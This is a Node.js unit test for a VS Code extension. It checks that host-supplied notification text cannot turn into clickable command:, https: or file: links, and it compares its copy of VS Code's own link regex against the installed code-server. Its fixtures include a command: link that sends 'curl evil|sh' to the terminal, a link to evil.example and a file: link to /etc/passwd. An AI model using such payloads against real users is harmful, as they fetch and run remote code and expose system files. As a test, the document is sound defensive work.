// A host's text must not become a clickable `command:` link in a notification. The oracle is VS Code's own
// link parser: the regex of vs/base/common/linkedText.ts, read from the installed code-server's workbench
// when it is there (the copy below is checked against it), else the copy, as quoted from that source.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { notificationSafe } from '../../../src/core/text/notificationText';

// eslint-disable-next-line no-useless-escape -- verbatim from VS Code, compared with the installed one
const COPY = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const WORKBENCH = join(
  process.env.RFT_CACHE ?? join(homedir(), '.cache/remote-finetune'),
  'code-server-4.100.3/node_modules/code-server/lib/vscode/out/vs/code/browser/workbench/workbench.js',
);

function vscodeLinkRegex(): RegExp {
  if (!existsSync(WORKBENCH)) {
    console.log(`# notificationText: ${WORKBENCH} not installed; using the regex as quoted from linkedText.ts`);
    return COPY;
  }
  const src = readFileSync(WORKBENCH, 'utf8');
  const m = /=(\/\\\[\(\[\^\\\]\]\+\)\\\]\\\(.*?\/gi);/.exec(src);
  assert.ok(m, 'the link regex was not found in the installed workbench');
  const installed = new Function(`return ${m[1]}`)() as RegExp;
  assert.equal(installed.source, COPY.source, 'VS Code changed its link syntax: review notificationSafe');
  return installed;
}

const links = (text: string): string[] => [...text.matchAll(new RegExp(vscodeLinkRegex().source, 'gi'))].map((x) => x[2]!);

test('notificationSafe: host text with command:, https: and file: links renders as plain text', () => {
  const hostile = [
    'Training failed: [Click to fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
    'see [docs](https://evil.example/x "title")',
    'open [log](file:///etc/passwd)',
    'nested [[a]](command:x) and [b] (command:y)',
  ];
  for (const h of hostile) {
    assert.ok(links(h).length > 0 || /\] \(/.test(h), `the raw text is a link for VS Code: ${h}`);
    assert.deepEqual(links(notificationSafe(h)), [], h);
    assert.equal(notificationSafe(h).replace(/\u200B/g, ''), h, 'nothing else changes');
  }
  assert.equal(notificationSafe('[127.0.0.1]:2222 refused'), '[127.0.0.1]:2222 refused');
});
